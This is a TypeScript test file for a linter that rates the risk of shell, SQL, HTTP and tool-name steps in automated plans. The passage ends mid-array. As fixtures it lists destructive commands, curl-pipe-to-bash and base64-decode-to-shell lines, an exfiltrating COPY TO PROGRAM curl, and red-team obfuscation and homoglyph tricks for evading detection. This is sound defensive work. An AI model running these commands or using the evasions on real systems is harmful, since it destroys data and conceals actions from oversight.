/**
 * Effective risk as a reviewer reads a step: what its arguments and tools will do. Each
 * case is one step compiled by the real compiler; the table pins the inferred risk, whether
 * it destroys something and the reason, and the false positives a careful reviewer would
 * not raise (a SELECT that mentions `deleted`, `git push --dry-run`, `kubectl get`, a
 * description that says "does not send").
 */
import { describe, expect, it } from "vitest";
import { commandEffects } from "../../src/lint/risk-shell.js";
import { sqlEffects } from "../../src/lint/risk-sql.js";
import { toolActions } from "../../src/lint/risk-words.js";
import { runCommand, runSql, SHELL, SQL_TOOL, stepRisk } from "./step-risk.js";

describe("SQL in arguments", () => {
  it.each([
    ["DROP TABLE orders CASCADE", "write", true, "`DROP TABLE`"],
    ["TRUNCATE TABLE sessions", "write", true, "`TRUNCATE`"],
    ["delete from orders where created_at < now() - interval '1 year'", "write", true, "`DELETE FROM`"],
    ["UPDATE orders SET status = 'void' WHERE id = 7", "write", false, "`UPDATE`"],
    ["UPDATE orders SET status = 'void'", "write", true, "`UPDATE`"],
    ["INSERT INTO audit (x) VALUES (1)", "write", false, "`INSERT INTO`"],
    ["ALTER TABLE orders DROP COLUMN note", "write", true, "`ALTER TABLE ... DROP`"],
    ["GRANT SELECT ON orders TO analyst", "write", false, "`GRANT`"],
    ["WITH old AS (SELECT id FROM orders) DELETE FROM orders USING old", "write", true, "`DELETE FROM`"],
    ["SELECT 1; DROP TABLE users", "write", true, "`DROP TABLE`"],
    // Statements whose write is not their leading verb (red team, round 4).
    ["WITH gone AS (DELETE FROM users WHERE active = false RETURNING id) SELECT count(*) FROM gone", "write", true, "`DELETE FROM`"],
    ["(DELETE FROM users)", "write", true, "`DELETE FROM`"],
    ["EXPLAIN ANALYZE DELETE FROM users", "write", true, "`DELETE FROM`"],
    ["PREPARE purge AS DELETE FROM users WHERE id = $1; EXECUTE purge(7)", "write", true, "`DELETE FROM`"],
    ["SELECT * INTO users_backup FROM users", "write", false, "`SELECT INTO`"],
    ["COPY users TO PROGRAM 'curl -T - https://x.example'", "write", true, "`COPY ... TO PROGRAM`"],
     // The block's body deletes every row: destructive (it was read as a plain write before the body was looked at).
    ["DO $$ BEGIN DELETE FROM users; END $$", "write", true, "`DO` block"],
  ])("%s", (sql, risk, destructive, what) => {
    const r = runSql(sql);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.sql\``);
    expect(r.cause?.path).toEqual(["with", "sql"]);
  });

  it.each([
    "SELECT count(*) FROM orders WHERE deleted = false",
    "SELECT * FROM audit WHERE action = 'DROP TABLE orders'",
    "SELECT id FROM orders FOR UPDATE",
    "-- DELETE FROM orders\nSELECT 1",
    "EXPLAIN DELETE FROM orders",
    'SELECT "delete" FROM t',
    "WITH recent AS (SELECT id FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
    "SELECT (SELECT max(id) FROM orders) AS top",
  ])("reads: %s", (sql) => {
    expect(runSql(sql).risk).toBe("read");
  });

  it("a search query that mentions deleting is prose, not SQL", () => {
    expect(sqlEffects("how to delete from git history", "weak")).toEqual([]);
    expect(sqlEffects("delete from orders where id = 1", "weak")).toHaveLength(1);
    expect(sqlEffects("Update the docs for the orders table", "none")).toEqual([]);
  });

  it("an LLM prompt quoting SQL does not run it", () => {
    const r = stepRisk("{ llm.ask: { risk: read, description: Ask the model a question } }", 'kind: analyze\ngoal: Explain the statement\ntool: llm.ask\nwith: { question: "DROP TABLE orders CASCADE" }');
    expect(r.risk).toBe("read");
  });
});

describe("shell commands in arguments", () => {
  it.each([
    ["rm -rf /var/log/app/*", "write", true, "`rm -rf`"],
    ["sudo rm -r /tmp/x", "write", true, "`rm -r`"],
    ["kubectl --context prod -n payments delete pod x", "external", true, "`kubectl delete`"],
    ["kubectl apply -f deploy.yaml", "external", false, "`kubectl apply`"],
    ["kubectl scale deploy/api --replicas=0", "external", false, "`kubectl scale`"],
    ["helm upgrade api ./chart", "external", false, "`helm upgrade`"],
    ["helm uninstall api", "external", true, "`helm uninstall`"],
    ["terraform apply -auto-approve", "external", false, "`terraform apply`"],
    ["terraform destroy", "external", true, "`terraform destroy`"],
    ["git push origin main", "external", false, "`git push`"],
    ["git push --force origin main", "external", true, "`git push --force`"],
    ["gh pr create --fill", "external", false, "`gh pr create`"],
    ["gh release create v1.2.0", "external", false, "`gh release create`"],
    ["docker push registry/app:1", "external", false, "`docker push`"],
    ["docker rm -f app", "write", true, "`docker rm`"],
    ["cd app && npm publish", "external", false, "`npm publish`"],
    ['bash -c "rm -rf build"', "write", true, "`rm -rf`"],
    ['ssh ops@db1 "systemctl stop postgresql"', "write", false, "`systemctl stop`"],
    ['psql -c "DROP DATABASE shop"', "write", true, "`psql DROP DATABASE`"],
    ["curl -X POST https://hooks.example.com/x -d '{}'", "external", false, "`curl -X POST`"],
    ["find /data -name '*.tmp' -delete", "write", true, "`find -delete`"],
    // Ways a careless or hostile plan hides the program or the option (red team, round 4).
    ["$(which rm) -rf /data", "write", true, "`rm -rf`"],
    ["`command -v rm` -rf /data", "write", true, "`rm -rf`"],
    ['eval "rm -rf /data"', "write", true, "`rm -rf`"],
    ["busybox rm -rf /data", "write", true, "`rm -rf`"],
    ["watch -n 5 rm -rf /data/tmp", "write", true, "`rm -rf`"],
    ["parallel rm -rf ::: /data/a /data/b", "write", true, "`rm -rf`"],
    ["curl -XPOST https://api.example.com/refunds", "external", false, "`curl -X POST`"],
    ["curl --request=POST https://api.example.com/refunds", "external", false, "`curl -X POST`"],
    ["wget --method=DELETE https://api.example.com/users/7", "external", true, "`wget -X DELETE`"],
    // Deploy, infrastructure and data tools beyond kubectl/helm/terraform (red team, round 4).
    ["pulumi destroy --yes", "external", true, "`pulumi destroy`"],
    ["pulumi up --yes --stack prod", "external", false, "`pulumi up`"],
    ["npx cdk destroy --force", "external", true, "`cdk destroy`"],
    ["serverless deploy --stage prod", "external", false, "`serverless deploy`"],
    ["sls remove", "external", true, "`sls remove`"],
    ["firebase deploy --only hosting", "external", false, "`firebase deploy`"],
    ["vercel --prod", "external", false, "`vercel`"],
    ["netlify deploy --prod", "external", false, "`netlify deploy`"],
    ["fly deploy", "external", false, "`fly deploy`"],
    ["heroku pg:reset DATABASE --confirm app", "external", true, "`heroku pg:reset`"],
    ["gsutil -m rm -r gs://bucket/exports", "external", true, "`gsutil rm`"],
    ["mc rm --recursive --force s3/bucket", "external", true, "`mc rm`"],
    ["redis-cli -h cache.internal FLUSHALL", "write", true, "`redis-cli FLUSHALL`"],
    ["mongosh shop --eval 'db.users.deleteMany({})'", "write", true, "`mongosh deleteMany`"],
    ["bin/rails db:drop", "write", true, "`rails db:drop`"],
    ["bundle exec rake db:reset", "write", true, "`rake db:reset`"],
    ["npx prisma migrate reset --force", "write", true, "`prisma migrate reset`"],
    ["npx prisma migrate deploy", "write", false, "`prisma migrate deploy`"],
    ["python manage.py flush --noinput", "write", true, "`manage.py flush`"],
    ["alembic downgrade base", "write", true, "`alembic downgrade`"],
    ["flyway clean", "write", true, "`flyway clean`"],
    ["liquibase dropAll", "write", true, "`liquibase dropAll`"],
    ["ansible-playbook -i prod site.yml", "external", false, "`ansible-playbook`"],
    ["make deploy ENV=prod", "external", false, "`make deploy`"],
    ["npm run deploy:prod", "external", false, "`npm run deploy:prod`"],
    ["./scripts/deploy.sh prod", "external", false, "`deploy.sh`"],
    ["make destroy", "external", true, "`make destroy`"],
    ["npm run db:drop", "write", true, "`npm run db:drop`"],
  ])("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "git push --dry-run origin main",
    "git push -n origin main",
    "kubectl get pods -n payments",
    "kubectl delete pod x --dry-run=client",
    "helm template api ./chart",
    "terraform plan -out plan.bin",
    "docker ps -a",
    "echo 'rm -rf /'",
    "du -sh /var/log | sort -rh",
    "git log --oneline -5 && git status",
    "curl -s https://status.example.com",
    "aws s3 cp s3://bucket/report.csv ./report.csv",
    "pulumi preview --stack prod",
    "npx cdk diff",
    "firebase projects:list",
    "heroku logs --tail -a app",
    "gsutil ls gs://bucket",
    "redis-cli -h cache.internal GET session:1",
    "mongosh shop --eval 'db.users.countDocuments({})'",
    "bin/rails db:migrate:status",
    "python manage.py showmigrations",
    "flyway info",
    "make test",
    "npm run build",
    "npm run lint",
    "./scripts/check.sh",
    "ansible-playbook site.yml --check",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it("an argv array is one command", () => {
    const r = stepRisk("{ proc.spawn: { risk: read } }", 'kind: read\ngoal: Spawn it\ntool: proc.spawn\nwith: { argv: [kubectl, delete, namespace, staging] }');
    expect([r.risk, r.destructive]).toEqual(["external", true]);
  });

  it("a command in an interpolated string keeps its shape", () => {
    const r = stepRisk(SHELL, 'kind: read\ngoal: Clean the directory\ntool: shell.run\nwith: { command: "rm -rf ${{ inputs.dir }}" }\n'.replace("inputs.dir", "run.id"));
    expect(r.destructive).toBe(true);
  });

  it("production targets are named", () => {
    expect(commandEffects("kubectl --context prod-eu-1 delete pod x")[0]?.production).toBe("prod-eu-1");
    expect(commandEffects("kubectl --context staging delete pod x")[0]?.production).toBeUndefined();
    expect(commandEffects("kubectl -n products delete pod x")[0]?.production).toBeUndefined();
  });
});

describe("code handed to an interpreter, procedures and maintenance SQL (passed the gate at 963be19)", () => {
  it.each([
    [`python3 -c "import shutil; shutil.rmtree('/srv/app/data')"`, "write", true, "`python3 shutil.rmtree`"],
    [`python -c "import os; os.remove('/etc/app.conf')"`, "write", true, "`python os.remove`"],
    [`python3 -c "from pathlib import Path; Path('/data/x.db').unlink()"`, "write", true, "`python3 unlink`"],
    [`python3 -c "open('/etc/hosts', 'a').write('10.0.0.1 db')"`, "write", false, "`python3 open(…, \"w\")`"],
    [`python3 -c "import requests; requests.post('https://api.example.com/refunds', json={'id': 7})"`, "external", false, "`python3 requests.post`"],
    // Through a cloud SDK the objects deleted are elsewhere: external (holdout4's one miss).
    [`python -c 'import boto3; boto3.resource("s3").Bucket("prod").objects.all().delete()'`, "external", true, "`python delete()`"],
    [`python3 -c "import sqlite3; c = sqlite3.connect('a.db'); c.execute('SELECT 1'); c.delete()"`, "write", true, "`python3 delete()`"],
    [`python3 -c "import subprocess; subprocess.run(['kubectl', 'delete', 'ns', 'prod'])"`, "external", true, "`kubectl delete`"],
    [`python3 -c "import os; os.system('rm -rf /var/lib/app')"`, "write", true, "`rm -rf`"],
    [`node -e "require('fs').rmSync('/var/cache/app', { recursive: true, force: true })"`, "write", true, "`node rmSync`"],
    [`node -e "require('fs').writeFileSync('/etc/motd', 'hi')"`, "write", false, "`node writeFileSync`"],
    [`node -e "fetch('https://api.example.com/users/7', { method: 'DELETE' })"`, "external", true, "`node method DELETE`"],
    [`node -e "require('child_process').execSync('git push --force origin main')"`, "external", true, "`git push --force`"],
    [`ruby -e 'require "fileutils"; FileUtils.rm_rf("/srv/data")'`, "write", true, "`ruby FileUtils.rm_rf`"],
    [`perl -e 'unlink glob "/var/log/app/*"'`, "write", true, "`perl unlink`"],
    [`php -r 'unlink("/var/www/index.php");'`, "write", true, "`php unlink`"],
    [`python3 -c "import sqlite3; sqlite3.connect('app.db').execute('DELETE FROM users')"`, "write", true, "`python3 execute(DELETE FROM)`"],
    // Names written as strings or imported bare are the same calls.
    [`python3 -c '__import__("shutil").rmtree("/srv/data")'`, "write", true, "`python3 shutil.rmtree`"],
    [`python3 -c 'from shutil import rmtree; rmtree("/srv/data")'`, "write", true, "`python3 rmtree`"],
    [`python3 -c 'import os; getattr(os, "remove")("/etc/app.conf")'`, "write", true, "`python3 os.remove`"],
    [`node -e 'require("fs")["rmSync"]("/srv/data", { recursive: true })'`, "write", true, "`node rmSync`"],
    ["alias wipe='rm -rf'\nwipe /data", "write", true, "`rm -rf`"],
    [`psql -c "CALL purge_all_customers()"`, "write", true, "`psql CALL purge_all_customers`"],
    [`psql -c "CALL refresh_stats()"`, "write", false, "`psql CALL refresh_stats`"],
    [`psql -c "VACUUM FULL orders"`, "write", false, "`psql VACUUM FULL`"],
    [`psql -c "REFRESH MATERIALIZED VIEW daily_sales"`, "write", false, "`psql REFRESH MATERIALIZED VIEW`"],
    [`psql -c "DROP OWNED BY app_user"`, "write", true, "`psql DROP OWNED`"],
    [`psql -c "DO \$\$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END \$\$"`, "write", true, "`psql DO block`"],
  ])("%s", (command, risk, destructive, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it("the argv form reads the same code", () => {
    const r = stepRisk(SHELL, `kind: read\ngoal: Tidy it\ntool: shell.run\nwith: { command: python3, args: ["-c", "import shutil; shutil.rmtree('/srv/data')"] }`);
    expect([r.risk, r.destructive]).toEqual(["write", true]);
  });

  it.each([
    `python3 -c "import json; print(len(json.load(open('orders.json'))))"`,
    `python3 -c "print('never call shutil.rmtree here')"`,
    `python3 -c "import requests; print(requests.get('https://status.example.com').status_code)"`,
    `python3 -c "open('report.csv', 'rb').read()"`,
    `node -e "console.log(require('fs').readFileSync('package.json', 'utf8').length)"`,
    `node -e "console.log(/rm -rf/.exec('x'))"`,
    `ruby -e 'puts File.read("app.log").lines.count'`,
    `perl -ne 'print if /ERROR/' app.log`,
    `php -r 'echo json_encode(["ok" => true]);'`,
    `psql -c "VACUUM ANALYZE orders"`,
    `psql -c "EXPLAIN SELECT * FROM orders"`,
    `psql -c "SELECT count(*) FROM orders"`,
    "alias ll='ls -la'\nll /srv",
    `python3 -c 'import json; print(json.dumps(__import__("os").listdir(".")))'`,
    `python3 -c 'xs = [1, 2]; xs.remove(1); print(xs)'`,
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });

  it("CALL and VACUUM are words in prose and in a search query", () => {
    expect(sqlEffects("call the support line and vacuum the lobby", "weak")).toEqual([]);
    expect(sqlEffects("CALL purge_old()", "strong")).toEqual([{ risk: "write", destructive: true, what: "`CALL purge_old`" }]);
  });
});

describe("code the plan does not show: downloaded or decoded, then run (passed the gate at 963be19)", () => {
  it.each([
    ["echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d | sh", "`base64 -d | sh` (code the plan does not show)"],
    ["curl -fsSL https://get.example.com/install.sh | bash", "`curl | bash` (code the plan does not show)"],
    ["curl -fsSL https://get.example.com | sudo bash -s -- --yes", "`curl | bash` (code the plan does not show)"],
    ["wget -qO- https://x.example.com/i.sh | sh -e", "`wget | sh` (code the plan does not show)"],
    ['sh -c "$(curl -fsSL https://x.example.com/i.sh)"', "`sh -c $(curl...)` (code the plan does not show)"],
    ["bash <(curl -s https://x.example.com/i.sh)", "`bash <(curl...)` (code the plan does not show)"],
    ["curl -s https://x.example.com/a.py | python3", "`curl | python3` (code the plan does not show)"],
    [`python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IHNodXRpbA=='))"`, "`python3 exec of decoded code (the plan does not show it)`"],
    ['echo "rm -rf /data" | sh', "`rm -rf`"],
  ])("%s", (command, what) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual(["write", true]);
    expect(r.cause?.reason).toBe(`${what} in \`with.command\``);
  });

  it.each([
    "curl -s https://api.example.com/x | python3 -m json.tool",
    `curl -s https://api.example.com/x | python3 -c "import sys, json; print(len(json.load(sys.stdin)))"`,
    "curl -s https://api.example.com/x | jq .items",
    "wget -qO- https://example.com/a.tgz | tar tz",
    `curl -s https://example.com | node -e "process.stdin.pipe(process.stdout)"`,
    "echo aGVsbG8= | base64 -d",
    "echo hello | rev",
    "cat notes.txt | perl -ne 'print if /TODO/'",
  ])("reads: %s", (command) => {
    expect(runCommand(command).risk).toBe("read");
  });
});

describe("HTTP methods", () => {
  const HTTP = "{ http.request: { risk: read, description: Make an HTTP request } }";
  it.each([
    ["POST", "external", false],
    ["delete", "external", true],
    ["GET", "read", false],
    ["HEAD", "read", false],
  ])("method %s", (method, risk, destructive) => {
    const r = stepRisk(HTTP, `kind: read\ngoal: Call the API\ntool: http.request\nwith: { url: "https://api.example.com/v1/items", method: ${method} }`);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
  });

  // A method the server takes from elsewhere than `method` (red team, round 4).
  it.each([
    ['{ url: "https://api.example.com/users/7", headers: { X-HTTP-Method-Override: DELETE } }', "external", true],
    ['{ url: "https://api.example.com/users/7", method: POST, headers: { X-HTTP-Method: DELETE } }', "external", true],
    ['{ url: "https://api.example.com/users/7?_method=DELETE" }', "external", true],
    ['{ url: "https://api.example.com/graphql", body: { query: "mutation { refundCharge(id: 7) { id } }" } }', "external", false],
    ['{ url: "https://api.example.com/graphql", query: "mutation DropUser { deleteUser(id: 7) { id } }" }', "external", true],
    ['{ url: "https://api.example.com/graphql", body: { query: "query { user(id: 7) { name } }" } }', "read", false],
    ['{ url: "https://api.example.com/search?q=_method%3DDELETE+mutation" }', "read", false],
  ])("%s", (args, risk, destructive) => {
    const r = stepRisk(HTTP, `kind: read\ngoal: Call the API\ntool: http.request\nwith: ${args}`);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
  });
});

describe("tool names, descriptions and annotations", () => {
  it.each([
    ["payments.refund", undefined, "payment"],
    ["book_flight", "Book a flight for a specific date", "booking"],
    ["send_email", undefined, "message"],
    ["daily_bill_payment", "Pay a specific bill", "payment"],
    ["crm.sync", "Sends the changed contacts to the CRM", "message"],
    ["stripe.refunds.create", undefined, "payment"],
    ["fs.remove", undefined, "delete"],
    // Look-alike letters from other scripts read as the Latin ones (Cyrillic е, а, о; Greek ο).
    ["billing.r\u0435fund", undefined, "payment"],
    ["s\u0435nd_\u0435mail", undefined, "message"],
    ["crm.sync", "S\u0435nds the changed contacts to the CRM", "message"],
    ["feed.publ\u0456sh", undefined, "publish"],
    ["\uff52\uff45\uff46\uff55\uff4e\uff44_charge", undefined, "payment"],
  ])("%s names an action", (id, description, cls) => {
    expect(toolActions(id, description)[0]?.cls).toBe(cls);
  });

  it.each([
    ["refunds.list", undefined],
    ["payment_status", "Get the status of a payment"],
    ["Image Style Transfer", "Applies the visual style of one image to another"],
    ["borrow_book_online", "Borrow a specific book from a specific library"],
    ["email.draft", "Drafts an email but does not send it"],
    ["mailer.preview", "Does not send: renders the email for review"],
    ["Text-to-Image", "Generates an image based on a given text description."],
    ["post_process_image", "Sharpens an image"],
    ["remove_background", "Removes the background of an image"],
    ["battery.charge_level", "Reports the charge level of the battery"],
    // A runner's namespace is whose it is (a film post-production team's): its arguments say what it does (holdout4).
    ["post.exec", undefined],
    ["send.query", undefined],
  ])("%s is a look-up or a transformation", (id, description) => {
    expect(toolActions(id, description)).toEqual([]);
  });

  it("annotations are structural facts (high confidence)", () => {
    const r = stepRisk("{ db.admin: { risk: read, annotations: { destructiveHint: true } } }", "kind: read\ngoal: Tidy the tables\ntool: db.admin");
    expect([r.risk, r.destructive, r.cause?.confidence]).toEqual(["write", true, "high"]);
    const open = stepRisk("{ web.post: { risk: read, annotations: { readOnlyHint: false, openWorldHint: true } } }", "kind: read\ngoal: Tell the world\ntool: web.post");
    expect(open.risk).toBe("external");
    // A read-only annotation outweighs a name that sounds like an action.
    const ro = stepRisk("{ payments.refund: { risk: read, annotations: { readOnlyHint: true } } }", "kind: read\ngoal: Preview the refund\ntool: payments.refund");
    expect(ro.risk).toBe("read");
    expect(stepRisk("{ payments.refund: { risk: read } }", "kind: read\ngoal: Preview the refund\ntool: payments.refund").risk).toBe("external");
  });

  it("a step without a tool runs nothing, whatever its arguments say", () => {
    expect(stepRisk("{}", 'kind: decide\ngoal: Decide what to run\nwith: { command: "rm -rf /" }').risk).toBe("read");
  });
});

describe("tool ids in their usual shapes", () => {
  it.each([
    ["slack.post_message", "publish"],
    ["chat.postMessage", "publish"],
    ["memory.delete_entities", "delete"],
    // A runner's id names what it runs in the part before it (passed the gate at a226178).
    ["billing.refund.exec", "payment"],
    ["email.send.exec", "message"],
    ["stripe.refund.sql", "payment"],
  ])("%s", (id, cls) => expect(toolActions(id, undefined)[0]?.cls).toBe(cls));

  it.each(["post.exec", "crm.query", "k8s.pod.exec", "crm.orders.query", "blog.posts.sql", "ops.shell"])("runner %s names no action", (id) => {
    expect(toolActions(id, undefined)).toEqual([]);
  });

  it.each(["kb.refund_policy", "payments.docs", "github.create_pull_request", "fs.read_file"])("%s names no action", (id) => {
    expect(toolActions(id, undefined)).toEqual([]);
  });
});

describe("hostile input", () => {
  it("no command, SQL text or tool name makes the analysis throw", async () => {
    const fc = await import("fast-check");
    const text = fc.oneof(
      fc.string({ maxLength: 80 }),
      fc.array(fc.constantFrom("rm", "-rf", "kubectl", "delete", "git", "push", "'", '"', ";", "&&", "|", "$(", ")", "bash", "-c", "ssh", "DROP", "TABLE", "WITH", "(", "--", "/*", "x", "eval", "cat", "=", "X=", "$X", "<", "{}"), { maxLength: 12 }).map((w) => w.join(" ")),
    );
    fc.assert(
      fc.property(text, fc.constantFrom<"strong" | "weak" | "none">("strong", "weak", "none"), (s, ctx) => {
        commandEffects(s);
        sqlEffects(s, ctx);
        toolActions(s, s);
      }),
      { numRuns: 2000 },
    );
    expect(toolActions("工具", "发送邮件")).toEqual([]);
  });
});

describe("large input stays linear", () => {
  it("a long SQL text full of dollar signs and quotes is read in one pass", () => {
    const s = `DELETE FROM t WHERE a = ${"$x$ ".repeat(20000)}`;
    expect(sqlEffects(s, "strong")[0]?.what).toBe("`DELETE FROM`");
    expect(sqlEffects(`SELECT $body$ DROP TABLE x $body$`, "strong")).toEqual([]);
    expect(commandEffects(`echo ${"'a' ".repeat(20000)}; rm -rf /tmp/x`)[0]?.what).toBe("`rm -rf`");
    // Many assignments before an eval, many `cat | ` before a shell, a substitution of a long file list: read in one pass, named briefly.
    expect(commandEffects(`${"a=b; ".repeat(40000)}eval "$c"`).map((e) => e.what)).toEqual(["`eval $c` (code the plan does not show)"]);
    expect(commandEffects(`${"cat x | ".repeat(20000)}bash`).map((e) => e.what)).toEqual(["`cat x | bash` (code the plan does not show)"]);
    expect(commandEffects(`eval "$(cat ${"a ".repeat(50000)})"`).map((e) => e.what)).toEqual([`\`eval $(cat ${"a ".repeat(26)}a…\` (code the plan does not show)`]);
    // Runs of newlines (a separator followed by blanks, in every pattern that looks for a command's start), spaces in a substitution, `python -m` after `python -m`.
    expect(commandEffects(`ls\n${"\n".repeat(200000)}rm -rf /tmp/x`).map((e) => e.what)).toEqual(["`rm -rf`"]);
    expect(commandEffects(`A=1\n${"\r\n".repeat(100000)}at now <<< "x"; cat x | bash; source y`).map((e) => e.what)).toEqual(["`cat x | bash` (code the plan does not show)"]);
    expect(commandEffects(`sh -c "$(cat${" ".repeat(200000)}"`)).toEqual([]);
    expect(commandEffects(`sh -c "$(cat${" ".repeat(200000)}cmd.txt)"`).map((e) => e.risk)).toEqual(["write"]);
    expect(commandEffects(`echo a${" ".repeat(200000)}b; echo a${"\t".repeat(200000)}b | wc`)).toEqual([]);
    expect(commandEffects("$(at ".repeat(40000))).toEqual([]);
    expect(commandEffects(`${"flock a ".repeat(25000)}rm x`).map((e) => e.what)).toEqual(["`rm`"]);
    expect(commandEffects(`${"python -m ".repeat(20000)}http.server`).map((e) => e.what)).toEqual(["`http.server` (serves files to the network)"]);
    // Here-documents and here-strings by the thousand, on one line or on many, closed or not: each read once.
    expect(commandEffects(`mysql app ${"<<< 'x' ".repeat(20000)}; mysql app <<< 'DROP TABLE t'`).map((e) => e.what)).toEqual(["`mysql DROP TABLE`"]);
    expect(commandEffects(`${"cat <<A\n".repeat(20000)}rm -rf /tmp/x`).map((e) => e.what)).toEqual(["`rm -rf`"]);
    expect(commandEffects(`x\n${"cat <<A ".repeat(30000)}`)).toEqual([]);
    expect(commandEffects(`${"psql <<A\nSELECT 1;\nA\n".repeat(10000)}psql <<B\nDELETE FROM t;\nB`).map((e) => e.what)).toEqual(["`psql DELETE FROM`"]);
    // Calls left open by the thousand in code an interpreter reads (a here-document, `-c`): each call's arguments are read within a bound.
    expect(commandEffects(`python3 - <<'E'\n${"subprocess.run([".repeat(12500)}\nshutil.rmtree('/x')\nE`).map((e) => e.what)).toContain("`python3 shutil.rmtree`");
    expect(commandEffects(`node -e "const { a${"{".repeat(60000)} } = require('fs')"; rm -rf /tmp/x`).map((e) => e.what)).toEqual(["`rm -rf`"]);
    // An awk program of thousands of prints and pipes, cat piped to ssh and text echoed into sftp by the thousand.
    expect(commandEffects(`awk '${"print x ".repeat(30000)}| "sh"' f; rm -rf /tmp/x`).map((e) => e.what)).toEqual(['`awk | "sh"` (code the plan does not show)', "`rm -rf`"]);
    expect(commandEffects(`awk '${'print "a" | "b" '.repeat(20000)}'`)).toEqual([]);
    expect(commandEffects(`${"cat a | ssh h ".repeat(20000)}`)).toEqual([]);
    expect(new Set(commandEffects(`${"echo 'rm x' | sftp h; ".repeat(20000)}`).map((e) => e.what))).toEqual(new Set(["`sftp rm`"]));
    // A run of pipes after many words: each pattern that looks for a program after a pipe tries it once.
    expect(commandEffects(`${"a ".repeat(50000)}${"|".repeat(100000)} rm -rf /tmp/x`).map((e) => e.what)).toEqual(["`rm -rf`"]);
  });
});

describe("redirects", () => {
  it.each([
    ["echo ok > /etc/app/flag", "`> /etc/app/flag`"],
    ["date >>/var/log/app.log", "`>>/var/log/app.log`"],
  ])("%s writes a file", (c, what) => expect(commandEffects(c).map((e) => e.what)).toEqual([what]));

  it.each(["make check > /dev/null 2>&1", "grep 'a>b' notes.txt", "ls 2>/dev/null"])("%s writes nothing", (c) => expect(commandEffects(c)).toEqual([]));
});

describe("interpreter code under other names, on stdin and through more calls (passed the gate at a226178)", () => {
  it.each([
    ["python3 -c \"import os as o; o.remove('/etc/app.conf')\"", "write", true],
    ["python3 -c \"from os import remove as r; r('/etc/app.conf')\"", "write", true],
    ["python3 -c \"import shutil; f = shutil.rmtree; f('/srv/data')\"", "write", true],
    ["python3 -c \"import subprocess as sp; sp.run(['rm', '-rf', '/srv'])\"", "write", true],
    ["node -e \"const {rmSync: r} = require('fs'); r('/srv', {recursive: true})\"", "write", true],
    ["python3 -c \"import os; getattr(os, 're' + 'move')('/x')\"", "write", true],
    ["python3 -c \"import os; vars(os)['remove']('/x')\"", "write", true],
    ["python3 -c \"import urllib.request; urllib.request.urlopen('https://x.example.com/reset', data=b'go')\"", "external", false],
    ["python3 -c \"import http.client as h; c = h.HTTPSConnection('x.example.com'); c.request('POST', '/reset')\"", "external", false],
    ["python3 -c \"import requests; requests.request('DELETE', 'https://x.example.com/users/1')\"", "external", true],
    ["python3 -c \"import requests; s = requests.Session(); s.post('https://x.example.com/r')\"", "external", false],
    ["python3 -c \"import smtplib; smtplib.SMTP('mail').sendmail('a@x', 'b@x', 'hi')\"", "external", false],
    ["python3 -c \"import os; os.execvp('rm', ['rm', '-rf', '/srv'])\"", "write", true],
    ["python3 -c \"import subprocess; subprocess.getoutput('rm -rf /srv')\"", "write", true],
    ["python3 -c \"import os; os.kill(1, 9)\"", "write", false],
    ["python3 -c \"import psycopg2; c = psycopg2.connect('').cursor(); q = 'DELETE FROM orders'; c.execute(q)\"", "write", true],
    ["python3 -c \"exec('import shutil; shutil.rmtree(1)')\"", "write", true],
    ["python3 -c \"exec(''.join(map(chr, [105, 109])))\"", "write", true],
    ["python3 -c \"import os; fd = os.open('/etc/hosts', os.O_WRONLY | os.O_TRUNC); os.write(fd, b'x')\"", "write", false],
    ["python3 -c \"import boto3; boto3.client('ec2').stop_instances(InstanceIds=['i-1'])\"", "external", false],
    ["python3 -c \"import redis; redis.Redis().flushall()\"", "write", true],
    ["python3 -c \"import pymongo; pymongo.MongoClient().drop_database('app')\"", "write", true],
    ["echo \"import shutil; shutil.rmtree('/srv')\" | python3", "write", true],
    ["python3 - <<< \"import shutil; shutil.rmtree('/srv')\"", "write", true],
    ["sh <<< \"rm -rf /srv\"", "write", true],
    ["uv run python -c \"import shutil; shutil.rmtree('/srv')\"", "write", true],
    ["node -e \"require('fs').openSync('/etc/hosts', 'w')\"", "write", false],
    ["ruby -e '%x(rm -rf /srv)'", "write", true],
    ["perl -e 'system \"rm\", \"-rf\", \"/srv\"'", "write", true],
    ["php -r 'array_map(\"unlink\", glob(\"/srv/*\"));'", "write", true],
    [`python3 -c "import stripe; stripe.Refund.create(charge='ch_1')"`, "external", false],
    [`python3 -c "import stripe; stripe.Customer.delete('cus_1')"`, "external", true],
    [`python3 -c "import docker; docker.from_env().containers.get('db').remove(force=True)"`, "external", true],
    // SQL functions that change things, called from a SELECT; COPY to a server file; the clients' shell escapes.
    [`psql -c "SELECT purge_old_rows()"`, "write", true],
    [`psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"`, "write", true],
    [`psql -c "SELECT lo_unlink(123)"`, "write", true],
    [`psql -c "SELECT setval('orders_id_seq', 1)"`, "write", false],
    [`psql -c "SELECT dblink_exec('host=x', 'DELETE FROM t')"`, "write", true],
    [`psql -c "COPY orders TO '/tmp/o.csv'"`, "write", false],
    ["psql -c '\\! rm -rf /srv'", "write", true],
    [`sqlite3 app.db ".shell rm -rf /srv"`, "write", true],
    [`sqlite3 app.db ".system rm -rf /srv"`, "write", true],
    ["psql -c '\\o /etc/cron.d/x'", "write", false],
  ] as const)("%s", (command, risk, destructive) => {
    const r = runCommand(command);
    expect([r.risk, r.destructive]).toEqual([risk, destructive]);
  });

  it.each([
    `python3 -c "import pandas as pd; print(pd.read_csv('a.csv').drop(columns=['x']).describe())"`,
    `python3 -c "import urllib.request as u, json; data = json.load(u.urlopen('https://x.example.com/api')); print(len(data))"`,
